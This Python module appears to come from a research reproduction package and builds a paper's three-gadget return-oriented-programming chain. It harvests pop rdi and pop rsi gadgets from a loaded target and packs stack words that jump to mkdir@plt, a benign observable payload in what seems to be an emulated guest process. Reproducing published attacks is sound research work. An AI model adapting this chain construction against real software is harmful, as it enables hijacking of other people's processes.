"""ROP chain construction (paper §4.2).

The paper's chain: three gadgets and three values — load a pointer to a
string found in the application into ``%rdi``, pop an integer into
``%rsi``, and jump to the ``mkdir`` libc call's location, creating a
directory as the observable effect.  This module harvests the gadgets from
the target's executable region (offline binary analysis, which the threat
model grants the attacker) and lays out the stack words.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import List, Optional

from repro.analysis.gadgets import (
    find_gadgets,
    find_pop_reg_ret,
)
from repro.errors import ReproError
from repro.loader.loader import LoadedImage
from repro.process.process import GuestProcess


class GadgetNotFound(ReproError):
    pass


@dataclass
class RopChain:
    """The stack words the overflow plants above the return address."""

    words: List[int]
    description: str = ""

    def pack(self) -> bytes:
        return b"".join(struct.pack("<Q", w & (2 ** 64 - 1))
                        for w in self.words)


def build_mkdir_chain(process: GuestProcess, target: LoadedImage,
                      mode: int = 0o755,
                      resume_address: Optional[int] = None) -> RopChain:
    """Build the paper's 3-gadget chain against a loaded target.

    ``resume_address`` is what execution falls into after ``mkdir``
    returns: ``None`` lands on address 0 (the exploited process crashes
    after the payload runs — the common, noisy outcome).
    """
    region = (target.base, target.base + target.image.load_size)
    gadgets = find_gadgets(process.space, max_len=2, region=region)
    pop_rdi = find_pop_reg_ret(gadgets, "rdi")
    pop_rsi = find_pop_reg_ret(gadgets, "rsi")
    if pop_rdi is None or pop_rsi is None:
        raise GadgetNotFound(
            "no pop rdi/pop rsi gadgets in the target's text")

    string_addr = target.symbol_address("upstream_tmp_path")
    mkdir_entry = target.symbol_address("mkdir@plt")

    words = [
        pop_rdi.address,     # gadget 1: pop %rdi ; ret
        string_addr,         # value 1: "a pointer to a string found in
                             #           the application"
        pop_rsi.address,     # gadget 2: pop %rsi ; ret
        mode,                # value 2: mkdir mode
        mkdir_entry,         # gadget 3: jump to the mkdir libc call
        resume_address or 0,
    ]
    return RopChain(
        words,
        description=(f"pop rdi@{pop_rdi.address:#x} <- str@{string_addr:#x};"
                     f" pop rsi@{pop_rsi.address:#x} <- {mode:#o};"
                     f" mkdir@plt {mkdir_entry:#x}"))
